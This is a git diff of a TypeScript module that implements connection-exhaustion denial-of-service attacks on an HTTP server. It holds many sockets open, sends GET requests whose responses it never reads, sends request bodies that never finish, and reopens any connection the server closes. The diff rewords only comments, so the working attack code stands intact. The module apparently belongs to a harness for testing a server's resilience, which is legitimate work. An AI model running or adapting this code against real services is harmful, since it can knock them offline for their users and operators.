@@ -1,15 +1,15 @@
-// Attacks by connections that are held open: their answers are not read, or their requests never end.
+// Attacks with connections that are held open: their responses are not read, or their requests never end.
 import { connect, type Socket } from 'node:net'
 import { attackerAddress, type Target } from './target.ts'
 
-/** Sends a GET request on each of so many connections, and never reads the answer's body. */
+/** Sends a GET request on each of many connections and never reads the bodies of the responses. */
 export function leaveUnread(target: Target, connections: number, path: string): void {
   holdConnections(target, connections, (socket) =>
     socket.write(headOf(target, 'GET', path, [`apikey: ${target.publishableKey}`])),
   )
 }
 
-/** Sends a request on each of so many connections, but for the end of its body: half of them with a length, half in chunks. */
+/** Sends a request without the end of its body on each of many connections, half of them with a length, half in chunks. */
 export function leaveUnfinished(
   target: Target,
   connections: number,
@@ -35,7 +35,7 @@ function headOf({ url }: Target, method: string, path: string, headers: string[]
   return `${[...lines, ...headers].join('\r\n')}\r\n\r\n`
 }
 
-/** Keeps so many connections open, and replaces each that is refused or closed. */
+/** Keeps a number of connections open, and replaces those that are refused or closed. */
 function holdConnections(
   target: Target,
   connections: number,
@@ -46,7 +46,7 @@ function holdConnections(
     const socket = connect(Number(port), hostname)
     socket.on('error', ({ code }: NodeJS.ErrnoException) => target.note(code ?? 'error'))
     socket.once('close', () => setTimeout(open, 20, number))
-    // Reads as much as says how it was answered, after which the socket's buffer fills up and the server has to wait.
+    // Reads just the status, after which the socket's buffer fills up and the server has to wait.
     socket.once('readable', () => {
       const [, status] = /^HTTP\/1\.1 (\d{3})/.exec(socket.read(12)?.toString() ?? '') ?? []
       target.note(status ?? 'closed')
